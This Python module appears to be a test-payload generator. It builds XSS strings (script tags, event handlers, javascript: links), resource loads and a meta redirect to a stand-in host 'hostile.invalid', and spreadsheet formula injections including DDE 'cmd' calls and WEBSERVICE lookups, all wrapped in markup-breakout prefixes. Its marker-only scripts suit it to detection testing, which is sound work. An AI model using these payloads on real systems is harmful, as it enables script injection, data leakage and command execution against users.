"""Texts that run where they are not shown letter by letter: in a page, in Markdown, in a file."""

from __future__ import annotations

from itertools import product
from typing import Final

MARK: Final = "ysmark"
SERVER: Final = "http://hostile.invalid"  # a name that nobody can own
SCRIPT: Final = f"(window.ran=window.ran||[]).push('{MARK}')"

_SCRIPTS: Final = (
    "<script>{script}</script>",
    "<img src=x onerror={script}>",
    "<svg onload={script}>",
    "<svg><script>{script}</script></svg>",
    "<iframe srcdoc='<script>parent.{script}</script>'></iframe>",
    "<body onload={script}>",
    "<input autofocus onfocus={script}>",
    "<details open ontoggle={script}>",
    "<a href='javascript:{script}'>ysmark</a>",
    "<form action='javascript:{script}'><button autofocus>ysmark</form>",
    "<math><mtext><img src=x onerror={script}></mtext></math>",
    "<style>@import '{server}/s.css';</style>",
    "<link rel=stylesheet href={server}/l.css>",
    "<img src={server}/i.png>",
    "<video src={server}/v.mp4 autoplay></video>",
    "<object data={server}/o></object>",
    "<meta http-equiv=refresh content='0;url={server}/m'>",
    "<base href={server}/>",
    "![ysmark]({server}/markdown.png)",
    "[ysmark](javascript:{script})",
    "<p style=background:url({server}/b.png)>ysmark",
    "$\\href{{javascript:{script}}}{{ysmark}}$",
)
_FORMULAS: Final = (
    '=HYPERLINK("{server}/f","ysmark")',
    "=cmd|' /C ysmark'!A0",
    '+IMPORTXML("{server}/x","//ysmark")',
    "-2+3+cmd|' /C ysmark'!A0",
    '@SUM(WEBSERVICE("{server}/w"))ysmark',
    '\t=WEBSERVICE("{server}/t")ysmark',
    "\r=1+1 ysmark",
    '＝HYPERLINK("{server}/w","ysmark")',
)
# What stands before and after, to break out of where the text is put.
_BEFORE: Final = ("", '">', "'>", "-->", "</textarea>", "</title>", "]]>", "`", "\\", "&#x27;>")
_AFTER: Final = ("", "<!--", "\u202e")


def strings(wanted: int) -> list[str]:
    """Return as many different texts, formulas and scripts in turn.

    A formula stands alone: it is live only where nothing stands before it.
    """
    around = list(product(_AFTER, _BEFORE))
    scripts = [
        before + text.format(script=SCRIPT, server=SERVER) + after
        for after, before in around
        for text in _SCRIPTS
    ]
    formulas = [
        f"{text.format(server=SERVER)}{number}"
        for number in range(len(around))
        for text in _FORMULAS
    ]
    turns = [one for pair in zip(scripts, formulas, strict=False) for one in pair]
    return [*turns, *scripts[len(formulas) :]][:wanted]
